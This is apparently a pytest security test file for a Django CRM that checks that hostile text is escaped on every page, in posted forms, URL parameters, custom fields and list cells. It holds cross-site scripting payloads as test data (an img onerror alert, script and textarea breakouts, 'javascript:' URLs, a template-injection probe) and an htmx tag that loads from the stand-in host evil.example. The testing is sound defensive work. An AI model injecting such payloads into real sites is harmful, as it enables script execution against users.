"""Hostile text in every field, on every page, is displayed and never runs (S9)."""

import html
import re

import pytest

from audit.models import Entry
from contacts.models import Activity, Company, Contact
from contacts.verbs.create import create
from contacts.verbs.create_company import create_company
from contacts.verbs.log import log
from crm.entities.models import CUSTOM_TYPES, CustomField
from crm.entities.registry import get
from crm.entities.verbs.save_custom_field import save_custom_field
from crm.kit.scope import in_workspace
from crm.lists.columns import column
from crm.lists.models import SavedView
from crm.users.models import Invitation, Team, User
from tests.security.calls import call, told
from tests.security.matrix import MATRIX, url
from tests.security.world import act, rows

pytestmark = pytest.mark.once

EVIL = "\"'><img src=x onerror=alert(1)>{{7*7}}</script>"
HOSTILE = [
    EVIL,
    '<div hx-get="//evil.example" hx-trigger="load">',
    "javascript:alert(1)",
    "</textarea><script>1</script>",
]
RAW = re.compile(r"<img src=x|<div hx-get=\"//evil|</script>\"|href=\"\s*javascript:|<script>1|(?<!\d)49\"'")


def text_fields(model) -> list[str]:
    """Return a model's columns with user input."""
    return [
        f.name
        for f in model._meta.concrete_fields
        if f.get_internal_type() in ("CharField", "TextField")
        and not f.choices
        and f.name not in ("public_id", "timezone", "country", "slug", "entity", "condition", "sort", "type", "key")
    ]


@pytest.fixture
def hostile(world, cast, acme):
    """Make every text of acme's rows hostile, without verbs, which would refuse some."""
    for model in (Contact, Company, Activity, Team, SavedView, CustomField):
        for number, name in enumerate(text_fields(model)):
            for row in model.objects.all():
                limit = model._meta.get_field(name).max_length or 500
                unique = f"{HOSTILE[number % len(HOSTILE)]}{row.pk}"
                model.objects.filter(pk=row.pk).update(**{name: unique[:limit]})
    User.objects.filter(pk=cast.mate.user_id).update(name=EVIL)
    User.objects.filter(pk=cast.rep.user_id).update(name=EVIL)
    Invitation.objects.update(email=f"{EVIL}@x.example"[:254])
    type(acme).objects.filter(pk=acme.pk).update(name=EVIL, schema_version=99)
    world.own.contact.refresh_from_db()
    world.own.company.refresh_from_db()
    return world


@pytest.mark.parametrize("who", ["viewer", "rep", "manager", "admin"])
def test_no_page_lets_stored_text_run(who, hostile, sign_in):
    client, ran, shown = sign_in(who), [], 0
    for name, route in MATRIX.items():
        for headers in ({}, {"HX-Request": "true"}):
            response = call(client, "GET", url(name, route.args(hostile.own) if route.args else ()), None, headers)
            said = told(response)
            shown += "onerror=alert" in said
            is_page = response.headers.get("Content-Type", "").startswith("text/html")  # a CSV is not executed
            if (is_page and RAW.search(said)) or response.status_code >= 500:
                ran.append((name, response.status_code, RAW.findall(said)[:3]))
    assert not ran, ran
    assert shown > 40  # the sidebar shows the workspace's name on every page


def test_what_is_posted_comes_back_escaped(world, acme, sign_in):
    client = sign_in("manager")
    for where, data in (
        ("/contact/new", {"name": EVIL, "email": EVIL}),
        ("/contact/view", {"name": EVIL * 4}),
        (f"/contact/{world.own.contact.public_id}/override", {"reason": EVIL}),
        ("/contact/bulk", {"action": EVIL, "query": EVIL, "selected": EVIL}),
        (f"/undo/{world.own.change}", {"next": "javascript:alert(1)"}),
    ):
        response = client.post(where, data)
        assert not RAW.search(told(response)), where
        assert "javascript" not in response.headers.get("Location", "")


@pytest.mark.parametrize("page", ["/search", "/contact", "/contact/filter", "/contact/columns", "/contact/view"])
@pytest.mark.parametrize("name", ["q", "where", "view", "sort", "columns", "after", "text", "field", "value", "ticked"])
def test_what_stands_in_the_address_comes_back_escaped_or_not_at_all(page, name, world, sign_in):
    for value in (*HOSTILE, "\0", "\ud800", "9" * 400, "eyJh", "[]", "%", "../../x", "name=" * 200):
        response = sign_in("rep").get(page, {name: value.encode("utf-8", "surrogatepass")})
        assert response.status_code < 500, (value, response.status_code)
        assert not RAW.search(told(response)), value


def test_the_timeline_s_cursor_takes_anything(world, sign_in):
    for value in (
        "x",
        "~",
        "2026-01-01~5",
        "0001-01-01T00:00:00+14:00~1",
        f"2026-01-01T00:00:00+00:00~{'9' * 40}",
        "\0~1",
    ):
        url = f"/contact/{world.own.contact.public_id}/timeline"
        assert sign_in("rep").get(url, {"before": value}).status_code in (200, 400), value


@pytest.mark.parametrize("type_", CUSTOM_TYPES)
def test_a_custom_field_of_each_type_is_shown_as_text(type_, world, cast, acme, sign_in):
    choices = [{"value": "evil", "label": EVIL}] if "select" in type_ else []
    target = "company" if type_ == "link" else ""
    made = CustomField(entity="contact", key="odd", label="Odd", type=type_, choices=choices, target=target)
    save_custom_field(made, by=act(cast.admin))
    company = world.own.company
    Company.objects.filter(pk=company.pk).update(name=EVIL)
    values = {"text": EVIL, "number": "12.5", "date": "2026-03-31", "yes_no": "yes", "select": EVIL}
    values |= {"long_text": EVIL, "money": "4.50", "percent": "25%", "datetime": "2026-03-31T14:30", "phone": EVIL}
    values |= {"url": "https://evil.example/<b>", "email": "a&b@evil.example"}
    values |= {"multi_select": "evil", "user": f"member_{cast.rep.pk}", "link": company.public_id}
    contact = rows(world.own.contact)
    client = sign_in("rep")
    edit = client.post(
        f"/contact/{world.own.contact.public_id}/field/odd", {"odd": posted(type_, values, company, cast)}
    )
    assert edit.status_code == 302, edit.content.decode()[-2000:]
    assert contact.get().custom["odd"] not in (None, "")
    for page in (f"/contact/{world.own.contact.public_id}", "/contact?view=all&columns=name,odd"):
        response = client.get(page)
        assert response.status_code == 200
        assert not RAW.search(told(response))


def posted(type_, values, company, cast):
    """Return the data of the field's own form input."""
    return {"select": "evil", "user": cast.rep.pk}.get(type_, values[type_])


@pytest.mark.parametrize("entity", ["contact", "company"])
@pytest.mark.parametrize("value", HOSTILE)
def test_every_cell_escapes_what_it_shows(value, entity, acme):
    kind = get(entity)
    texts = [f for f in kind.fields.values() if f.type not in ("number", "date", "datetime", "yes_no", "many")]
    for field in texts:
        written = column(kind, field).cell([[value] if field.type == "multi_select" else value, "org_000000000"], "x")
        assert value not in written or value == html.escape(value), field.key
        assert not RAW.search(written), field.key


def test_the_verbs_take_hostile_text_as_it_is(cast, acme):
    company = create_company([{"name": EVIL}], by=act(cast.rep)).done[0]
    contact = create([{"name": EVIL, "notes": EVIL, "company": company}], by=act(cast.rep)).done[0]
    log([{"kind": "note", "subject": EVIL, "body": EVIL, "contact_id": contact}], by=act(cast.rep))
    assert Contact.objects.get(pk=contact).name == EVIL
    assert Entry.objects.filter(entity="contact", entity_id=contact).get().new_values["notes"] == EVIL


def test_text_with_nul_is_refused_or_cleaned(world, cast, sign_in):
    client = sign_in("rep")
    for path, data in (
        ("/contact/new", {"name": "a\0b"}),
        (f"/contact/{world.own.contact.public_id}/field/title", {"title": "a\0b"}),
        (f"/contact/{world.own.contact.public_id}/activity", {"kind": "note", "subject": "a\0b", "priority": "low"}),
        (f"/activity/{world.own.task.public_id}/complete", {"outcome": "a\0b"}),
        (f"/contact/{world.own.contact.public_id}/lose", {"reason": "a\0b"}),
        ("/contact/view", {"name": "a\0b"}),
        ("/contact/bulk", {"action": "a\0b", "selected": "a\0b", "query": "q=a\0b"}),
        ("/settings/profile/", {"name": "a\0b", "theme": "auto"}),
        ("/settings/theme/", {"theme": "a\0b"}),
    ):
        assert client.post(path, data).status_code < 500, path
    with in_workspace(cast.acme):
        assert not any("\0" in contact.title + contact.name for contact in Contact.objects.all())
